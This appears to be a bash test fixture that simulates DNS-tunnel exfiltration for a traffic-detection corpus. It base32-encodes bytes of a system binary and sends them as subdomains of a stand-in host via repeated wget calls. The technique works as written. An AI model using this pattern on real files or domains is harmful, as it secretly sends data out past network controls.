#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=report tool=wget seconds=40 parts=dns,nas,outside-web
# wget is told to fetch from names that are data, in base32; the fetch itself never matters.
# shellcheck disable=SC2016,SC2018,SC2019
tail -c +9000 /usr/bin/openssl | head -c 14000 | base32 -w 58 | tr -d = | tr A-Z a-z | timeout 38 sh -c 'while read -r line; do timeout 1 wget -q -t 1 -T 1 -O /dev/null "http://$line.tunnel.example:9/"; done'; true
